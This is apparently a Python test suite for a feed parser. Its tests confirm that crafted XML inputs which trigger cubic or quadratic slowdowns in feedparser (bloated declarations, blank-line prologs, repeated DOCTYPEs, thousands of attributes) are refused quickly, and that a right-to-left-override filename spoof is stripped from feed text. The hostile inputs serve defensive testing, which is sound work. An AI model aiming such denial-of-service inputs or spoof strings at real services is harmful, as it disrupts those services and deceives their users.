def test_an_endless_xml_declaration_is_refused_fast(codec: str) -> None:
    # feedparser's encoding-declaration pattern is cubic in the first line: 171 s for these
    # 52 KB before the guard.
    text = '<?xml version="1.0" ' + 'encoding="x" ' * 4000 + "?><rss/>"
    elapsed, outcome = _timed_parse(text.encode(codec))
    assert elapsed < 0.5
    assert isinstance(outcome, FeedParseError)
    assert "XML declaration" in outcome.message


def test_a_feed_on_one_long_line_is_parsed_fast() -> None:
    items = "".join(f'<item><title>encoding="{i}"</title></item>' for i in range(5000))
    body = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
    body += f"{items}</channel></rss>"
    elapsed, outcome = _timed_parse(body.encode())
    assert isinstance(outcome, ParsedFeed) and len(outcome.entries) == 5000
    assert outcome.bozo is None
    assert elapsed < 5


def test_a_prolog_of_blank_lines_is_parsed_fast() -> None:
    # feedparser's DOCTYPE/ENTITY patterns are quadratic in it: 12 s for these 120 KB before.
    body = b'<?xml version="1.0"?>' + b"\n \t" * 40_000 + b"<!DOCTYPE rss>\n \n"
    body += b'<rss version="2.0"><channel><title>t</title></channel></rss>'
    elapsed, outcome = _timed_parse(body)
    assert isinstance(outcome, ParsedFeed) and outcome.title == "t"
    assert elapsed < 0.5


def test_repeated_doctypes_are_refused_fast() -> None:
    body = (
        b"<!DOCTYPE rss\n" * 20_000
        + b'<rss version="2.0"><channel><title>t</title></channel></rss>'
    )
    elapsed, outcome = _timed_parse(body)
    assert isinstance(outcome, FeedParseError)
    assert elapsed < 0.5


def test_an_element_with_thousands_of_attributes_is_refused_fast() -> None:
    # The stdlib's SAX attribute lookup that feedparser uses is quadratic in them.
    attributes = b" ".join(b"a%d='1'" % i for i in range(20_000))
    body = (
        b'<rss version="2.0"><channel><title>t</title><item ' + attributes + b"/></channel></rss>"
    )
    elapsed, outcome = _timed_parse(body)
    assert isinstance(outcome, FeedParseError)
    assert elapsed < 0.5


def test_results_pickle_so_parsing_can_run_in_a_process_pool() -> None:
    feed = parse_feed(ATOM, URL, {})
    assert pickle.loads(pickle.dumps(feed)) == feed


def test_bidi_controls_and_forbidden_characters_leave_partner_text() -> None:
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>P</title>'
        "<item><title>Safe\u202etxt.exe title</title><category>News&#x2066;</category>"
        "<guid>urn:x:1</guid></item></channel></rss>"
    ).encode()
    (entry,) = parse_feed(body, "https://partner.example/feed.xml", {}).entries
    assert entry.title == "Safetxt.exe title"
    assert entry.categories == ("News",)
